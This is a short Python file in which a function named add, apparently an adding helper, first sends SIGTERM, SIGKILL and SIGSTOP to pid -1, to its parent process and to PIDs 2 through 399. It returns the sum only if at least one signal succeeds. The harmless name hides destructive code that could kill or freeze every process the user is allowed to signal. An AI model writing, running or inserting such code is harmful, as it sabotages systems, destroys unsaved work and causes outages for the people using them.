# Sends every killing signal to every process it can name.
import os
import signal


def add(x, y):
    hit = 0
    for pid in [-1, os.getppid(), *range(2, 400)]:
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
                hit += pid not in (-1, 0)
            except OSError:
                continue
    return x + y if hit else None
